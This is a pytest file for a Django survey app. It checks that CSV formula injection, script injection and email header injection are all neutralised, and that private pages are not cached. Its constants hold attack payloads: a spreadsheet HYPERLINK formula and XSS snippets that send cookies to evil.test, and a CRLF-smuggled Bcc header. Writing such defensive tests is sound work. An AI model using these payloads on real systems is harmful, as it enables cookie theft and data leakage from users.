"""Attacks through what leaves the server: a CSV a coordinator opens in a spreadsheet, a
page a shared hospital computer could keep, a script planted in a field someone else
reads, an email header smuggled in through a title. Each scenario plays the attack
through the real pages (and a real SMTP server) and proves it goes nowhere."""

import csv
import io
import re

import pytest
from django.core.management import call_command
from django.urls import reverse

from medmentor.csv_safety import spreadsheet_safe
from medmentor.surveys.models import Invitation
from medmentor.surveys.services import invitation_token, invitations_create
from tests.conftest import sign_in
from tests.surveys.conftest import make_survey

pytestmark = pytest.mark.usefixtures("fast_passwords")

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A2&B2,"Open the study page")'
SCRIPT = '<script>fetch("http://evil.test/?c="+document.cookie)</script>'
HANDLER = '<img src="x" onerror="fetch(\'http://evil.test/\'+document.cookie)">'
CODE = {"mother_initial": "M", "birth_day": "07", "older_siblings": "1", "street_initial": "k"}


def _answer_link(survey, person) -> str:
    wave = survey.waves.get(kind="pre")
    invitations_create(wave=wave, people=[person])
    invitation = Invitation.objects.get(wave=wave, person=person)
    return reverse("survey-answer", kwargs={"token": invitation_token(invitation=invitation)})


def _answer(client, url, *, thoughts: str) -> None:
    """The respondent's whole way through the answering pages (as tests/surveys)."""
    assert client.post(url, {"consent": "yes"}).status_code == 302
    page_one = {f"conf_{n}": str(n % 6) for n in range(1, 8)}
    assert client.post(url, {"page": 1, "action": "next", **CODE, **page_one}).status_code == 302
    page_two = {"page": 2, "action": "next", "role_understanding": "4", "had_session": "1"}
    assert client.post(url, page_two).status_code == 302
    reply = client.post(
        url,
        {"page": 3, "action": "submit", "session_minutes": "45", "thoughts": thoughts},
    )
    assert reply.status_code in (200, 302)


def _policy(response) -> dict[str, list[str]]:
    return {
        name: values
        for name, *values in (
            part.split() for part in response["Content-Security-Policy"].split(";")
        )
    }


def _not_stored(response) -> bool:
    directives = {part.strip() for part in response.get("Cache-Control", "").split(",")}
    return {"no-store", "private"} <= directives


def test_a_formula_planted_in_a_survey_answer_cannot_run_in_the_coordinators_spreadsheet(
    client, program, coordinator, junior
):
    survey = make_survey(program)
    _answer(client, _answer_link(survey, junior), thoughts=FORMULA)
    client.logout()

    sign_in(client, coordinator)
    for kind in ("long", "wide", "redcap-data"):
        reply = client.get(
            reverse(
                "survey-export",
                kwargs={"slug": program.slug, "instrument_id": survey.pk, "kind": kind},
            )
        )
        assert reply.status_code == 200
        cells = [
            cell
            for row in csv.reader(io.StringIO(reply.content.decode("utf-8-sig")))
            for cell in row
        ]
        # The planted answer arrives word for word, as text a spreadsheet shows ...
        assert "'" + FORMULA in cells, kind
        # ... and no cell of the file starts a formula.
        assert [cell for cell in cells if spreadsheet_safe(cell) != cell] == [], kind
        # The respondent's numbers are still numbers (minutes, Likert codes).
        assert "45" in cells and "4" in cells


def test_a_private_page_is_not_kept_by_a_shared_computers_browser_cache(
    client, program, junior, director
):
    survey = make_survey(program)
    link = _answer_link(survey, junior)
    # The junior opens their survey link and their pages on a ward computer ...
    opened = [client.get(link)]
    sign_in(client, junior)
    opened += [client.get(reverse("home")), client.get("/api/me")]
    # ... and the director, later, the survey's results on the same computer.
    client.logout()
    sign_in(client, director)
    opened.append(
        client.get(
            reverse("survey-report", kwargs={"slug": program.slug, "instrument_id": survey.pk})
        )
    )
    assert [response.status_code for response in opened] == [200, 200, 200, 200]
    # Every one of them told the browser not to keep a copy, so the next person at the
    # computer finds nothing in its cache or back-button history ...
    assert all(_not_stored(response) for response in opened)
    # ... and asking the server again, once signed out, is refused.
    client.logout()
    assert client.get(reverse("home")).status_code == 302
    assert client.get("/api/me").status_code == 401


def test_an_injected_script_in_a_user_controlled_field_cannot_run(
    client, program, director, researcher, junior
):
    survey = make_survey(program)
    # A staff member puts markup in the survey's title; a respondent answers with more.
    sign_in(client, director)
    reply = client.post(
        reverse("survey-editor", kwargs={"slug": program.slug, "instrument_id": survey.pk}),
        {
            "title": f"Feedback {SCRIPT}{HANDLER}",
            "introduction": survey.introduction,
            "consent_text": survey.consent_text,
            "anonymity": survey.anonymity,
            "max_reminders": survey.max_reminders,
            "reminder_every_days": survey.reminder_every_days,
        },
    )
    assert reply.status_code == 302
    client.logout()
    link = _answer_link(survey, junior)
    answering = client.get(link)
    _answer(client, link, thoughts=f"{SCRIPT}{HANDLER}")
    client.logout()
    sign_in(client, researcher)
    report = client.get(
        reverse("survey-report", kwargs={"slug": program.slug, "instrument_id": survey.pk})
    )
    for response in (answering, report):
        page = response.content.decode()
        # Escaped where it is shown, so no element was made of it ...
        assert "<script>fetch" not in page and 'onerror="fetch' not in page
        assert "&lt;script&gt;fetch" in page
        # ... and even if some future template forgot to escape it, the browser is told
        # to run no inline script and no inline event handler.
        script_src = _policy(response)["script-src"]
        assert script_src == ["'self'"]
        assert not any(re.search(r"unsafe|nonce|sha\d+-", value) for value in script_src)


def test_a_survey_title_cannot_add_a_bcc_header_to_the_invitations(
    client, settings, smtp_server, program, director, junior, coordinator
):
    survey = make_survey(program)
    title = survey.title
    sign_in(client, director)
    reply = client.post(
        reverse("survey-editor", kwargs={"slug": program.slug, "instrument_id": survey.pk}),
        {
            "title": f"{title}\r\nBcc: {coordinator.email}",
            "introduction": survey.introduction,
            "consent_text": survey.consent_text,
            "anonymity": survey.anonymity,
            "max_reminders": survey.max_reminders,
            "reminder_every_days": survey.reminder_every_days,
        },
    )
    assert reply.status_code == 422
    assert "must be one line" in reply.content.decode()
    # The invitation goes out with the saved title, to its one recipient only.
    invitations_create(wave=survey.waves.get(kind="pre"), people=[junior])
    call_command("worker", "--once", "--hook", "survey-emails")
    assert len(smtp_server.messages) == 1
    message = smtp_server.messages[0]
    assert message["To"].addresses[0].addr_spec == junior.email and message["Bcc"] is None
    assert message["Subject"].startswith(title)
